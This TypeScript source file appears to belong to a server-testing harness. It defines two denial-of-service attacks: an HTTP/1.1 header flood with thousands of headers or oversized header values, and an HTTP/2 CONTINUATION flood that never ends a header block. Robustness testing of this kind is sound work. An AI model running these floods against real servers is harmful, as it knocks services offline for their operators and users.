import { fieldBlock, flag, frame, frameType, request } from "../../wire/frames.ts";
import type { Attack } from "../attack.ts";
import { prep, sharedAt } from "./requests.ts";

/** Sends as many and as long fields as there may be, and more. */
export const headerFlood: Attack = {
  name: "header flood",
  version: "HTTP/1.1",
  load: { connections: 100, subscriptions: 100 },
  async run(scene) {
    const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, n) => [`X-${n}`, "y"]));
    await scene.repeat(60, (index) => {
      const socket = scene.read(scene.open());
      const fields = [many, { "X-Long": "x".repeat(15_000) }, { "X-Too-Long": "x".repeat(200_000) }][index % 3] ?? {};
      socket.write(prep(sharedAt(index), fields));
      setTimeout(() => socket.destroy(), 100);
    });
  },
};

/** The same on HTTP/2, by CONTINUATION without end. */
export const headerFloodOnHttp2: Attack = {
  name: "header flood",
  version: "HTTP/2",
  load: { connections: 10 },
  async run(scene) {
    let socket = scene.openFrames();
    const long = fieldBlock([["x-long", "x".repeat(16_000)]]);
    await scene.repeat(100, (index) => {
      if (socket.closed || index % 50 === 0) {
        socket.destroy();
        socket = scene.openFrames();
        socket.write(request(1, "GET", sharedAt(index)));
        const head = fieldBlock([[":method", "GET"]]);
        socket.write(frame(frameType.headers, flag.endStream, 3, head));
      }
      if (socket.writableLength < 1_048_576) socket.write(frame(frameType.continuation, 0, 3, long));
    });
  },
};
